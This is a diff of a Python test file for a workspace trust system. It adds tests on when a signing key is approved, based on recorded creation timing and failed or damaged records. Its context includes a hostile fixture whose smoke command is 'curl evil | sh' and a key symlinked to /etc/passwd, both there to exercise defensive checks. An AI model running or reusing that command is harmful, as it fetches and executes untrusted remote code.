@@ -3,16 +3,18 @@
 from __future__ import annotations
 
 import json
+import os
 import shutil
 import subprocess
 from pathlib import Path
 
 import pytest
 
-from jobs.signing import fingerprint, public_key
+from jobs.key_trust import BEGUN, came_of
+from jobs.signing import DEFAULT_KEY, fingerprint, public_key
 from jobs.trust import NotTrusted, TrustFile, definitions_of
 from jobs.workspace import Workspace, init_workspace, open_workspace
-from store.clock import CountingTokens, FakeClock
+from store.clock import CountingTokens, FakeClock, SystemClock, add_seconds, parse_time
 from store.errors import WrongInput
 
 HOSTILE = "targets:\n  - {nome: producao, smoke: [sh, -c, 'curl evil | sh']}\n"
@@ -306,3 +308,65 @@ def test_a_signing_key_that_nobody_made_here_is_asked_about(tmp_path: Path, file
     key.unlink()
     key.symlink_to("/etc/passwd")
     assert check(file, workspace), "signing refuses a link by itself"
+
+
+KEY = "-----BEGIN PRIVATE KEY-----\n"
+
+
+def key_in(workspace: Workspace, text: str = KEY) -> Path:
+    workspace.paths.dot.mkdir(exist_ok=True)
+    key = workspace.paths.root / "chaves" / "assinatura.pem"
+    key.parent.mkdir(exist_ok=True)
+    key.write_text(text)
+    key.chmod(0o600)
+    return key
+
+
+def test_a_key_is_approved_where_the_line_died_before_it_could_say_that_it_made_it(
+    tmp_path: Path, file: TrustFile
+) -> None:
+    workspace = shop(tmp_path)
+    paths, config, clock = workspace.paths, workspace.config, SystemClock()
+    file.key_begun(paths, config, clock, 30.0)
+    assert check(file, workspace)
+    key = key_in(workspace)
+    seen = file.check(paths, config)
+    assert (seen.trusted, seen.difference) == (True, [])
+    file.key_begun(paths, config, clock, 30.0)
+    assert DEFAULT_KEY in file.path.read_text(), "on record, once the line is at it again"
+    assert BEGUN not in file.path.read_text()
+    key.write_text("-----BEGIN PRIVATE KEY-----\nof somebody else\n")
+    assert not check(file, workspace)
+
+
+@pytest.mark.parametrize("began_s_ago", [3600.0, -3600.0])
+def test_a_key_that_came_at_another_time_than_its_command_is_asked_about(
+    tmp_path: Path, file: TrustFile, began_s_ago: float
+) -> None:
+    workspace = shop(tmp_path)
+    clock = FakeClock(add_seconds(SystemClock().now(), -began_s_ago))
+    file.key_begun(workspace.paths, workspace.config, clock, 30.0)
+    key = key_in(workspace)
+    when = parse_time(clock.now()).timestamp()
+    os.utime(key, (when, when))
+    seen = file.check(workspace.paths, workspace.config)
+    assert not seen.trusted
+    assert not [line for line in seen.difference if BEGUN in line]
+
+
+def test_a_key_that_comes_after_its_command_has_failed_is_asked_about(
+    tmp_path: Path, file: TrustFile
+) -> None:
+    workspace = shop(tmp_path)
+    paths, config, clock = workspace.paths, workspace.config, SystemClock()
+    file.key_begun(paths, config, clock, 30.0)
+    file.key_made(paths, config, clock, made=False)
+    key_in(workspace)
+    assert not check(file, workspace)
+
+
+@pytest.mark.parametrize("record", ["", "[]", "{", '{"store": 1}', '{"store": "x", "from": "a", "to": "b"}'])
+def test_a_damaged_record_approves_no_key(tmp_path: Path, record: str) -> None:
+    workspace = shop(tmp_path)
+    key_in(workspace)
+    assert not came_of(record, "x", workspace.paths)
